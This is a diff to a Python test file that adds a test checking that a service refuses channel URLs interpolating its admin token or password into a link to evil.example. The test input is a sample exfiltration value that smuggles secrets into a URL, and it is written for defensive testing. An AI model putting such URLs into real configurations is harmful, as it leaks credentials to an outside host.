@@ -115,3 +115,13 @@ def test_what_could_be_private_is_not_repeated(text: str) -> None:
     told = read_rules(file, environ={}, installed=Installed({"completed": frozenset({"email"})}))[1]
     assert len(told) >= 8
     assert not any(text in str(each) for each in told)
+
+
+@pytest.mark.parametrize("name", ["COURSEBELL_ADMIN_TOKEN", "COURSEBELL_ADOBE_PASSWORD"])
+@pytest.mark.parametrize("form", ["${%s}", "${%s:-x}"])
+def test_a_secret_of_the_service_is_no_part_of_a_channel(name: str, form: str) -> None:
+    channels, told = read(f"jsons://evil.example/{form % name}", **{name: SECRET})
+    assert channels is None
+    assert told[0].message.endswith(
+        "is a setting of the service; name a variable that ends in _URL"
+    )
